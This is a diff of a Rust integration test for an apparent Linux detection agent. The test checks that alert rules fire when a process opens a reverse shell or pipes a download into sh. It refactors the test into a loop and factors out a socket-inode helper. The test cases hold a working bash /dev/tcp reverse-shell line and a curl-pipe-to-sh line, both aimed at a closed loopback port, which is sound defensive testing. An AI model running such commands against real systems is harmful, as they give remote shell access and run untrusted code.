@@ -272,36 +272,39 @@ fn alert_for(agent: &Agent, rule: &str, pid: u32, since: Instant) -> (Value, Dur
 fn a_one_shot_reverse_shell_and_a_piped_download_raise_alerts_at_once() {
     let _serial = serial();
     let agent = agent_with_events("");
-    // Port 1 on loopback refuses: the shell exits at once, as a failed callback would.
-    let started = Instant::now();
-    let mut shell = spawn_quiet("bash", &["-c", "bash -i >& /dev/tcp/127.0.0.1/1 0>&1"]);
-    let shell_pid = shell.id();
-    let _ = shell.wait();
-    let (alert, took) = alert_for(&agent, "DE-LNX-0007", shell_pid, started);
-    println!(
-        "reverse shell (pid {shell_pid}): alert after {} ms",
-        took.as_millis()
-    );
-    assert_eq!(alert["severity"], "critical", "{alert}");
-
-    let started = Instant::now();
-    let mut piped = spawn_quiet("sh", &["-c", "curl -fsS http://127.0.0.1:1/i.sh | sh"]);
-    let piped_pid = piped.id();
-    let _ = piped.wait();
-    let (_, took) = alert_for(&agent, "DE-LNX-0008", piped_pid, started);
-    println!(
-        "curl | sh (pid {piped_pid}): alert after {} ms",
-        took.as_millis()
-    );
+    // Port 1 on loopback refuses: each exits at once, as a failed callback or download would.
+    let cases = [
+        (
+            "reverse shell",
+            "bash",
+            "bash -i >& /dev/tcp/127.0.0.1/1 0>&1",
+            "DE-LNX-0007",
+        ),
+        (
+            "curl | sh",
+            "sh",
+            "curl -fsS http://127.0.0.1:1/i.sh | sh",
+            "DE-LNX-0008",
+        ),
+    ];
+    for (what, shell, line, rule) in cases {
+        let started = Instant::now();
+        let mut child = spawn_quiet(shell, &["-c", line]);
+        let pid = child.id();
+        let _ = child.wait();
+        let (alert, took) = alert_for(&agent, rule, pid, started);
+        println!("{what} (pid {pid}): alert after {} ms", took.as_millis());
+        assert_eq!(alert["rule_id"], rule, "{alert}");
+    }
 
     // Neither process was ever in a scan.
     let scans = json_rows(&agent, "SELECT count(*) AS n FROM scans");
     assert_eq!(scans[0]["n"], 1, "{scans:?}");
 }
 
-fn open_netlink_sockets(pid: u32) -> usize {
-    // Every socket of the process, by inode, against the kernel's netlink table.
-    let inodes: BTreeSet<String> = std::fs::read_dir(format!("/proc/{pid}/fd"))
+/// The inodes of the sockets process `pid` has open.
+fn socket_inodes(pid: u32) -> BTreeSet<String> {
+    std::fs::read_dir(format!("/proc/{pid}/fd"))
         .map(|dir| {
             dir.filter_map(|entry| std::fs::read_link(entry.ok()?.path()).ok())
                 .filter_map(|target| {
@@ -315,7 +318,12 @@ fn open_netlink_sockets(pid: u32) -> usize {
                 })
                 .collect()
         })
-        .unwrap_or_default();
+        .unwrap_or_default()
+}
+
+/// How many of the process's sockets are in the kernel's netlink table.
+fn open_netlink_sockets(pid: u32) -> usize {
+    let inodes = socket_inodes(pid);
     let table = std::fs::read_to_string("/proc/net/netlink").unwrap_or_default();
     table
         .lines()
@@ -327,23 +335,9 @@ fn open_netlink_sockets(pid: u32) -> usize {
         .count()
 }
 
-/// The inodes of the process's sockets that are internet sockets (TCP, UDP, raw; v4 and v6).
+/// The process's sockets that are internet sockets (TCP, UDP, raw; v4 and v6).
 fn internet_sockets(pid: u32) -> Vec<String> {
-    let inodes: BTreeSet<String> = std::fs::read_dir(format!("/proc/{pid}/fd"))
-        .map(|dir| {
-            dir.filter_map(|entry| std::fs::read_link(entry.ok()?.path()).ok())
-                .filter_map(|target| {
-                    let target = target.to_string_lossy().into_owned();
-                    Some(
-                        target
-                            .strip_prefix("socket:[")?
-                            .strip_suffix(']')?
-                            .to_owned(),
-                    )
-                })
-                .collect()
-        })
-        .unwrap_or_default();
+    let inodes = socket_inodes(pid);
     let mut found = Vec::new();
     for table in ["tcp", "tcp6", "udp", "udp6", "raw", "raw6"] {
         let text = std::fs::read_to_string(format!("/proc/{pid}/net/{table}")).unwrap_or_default();
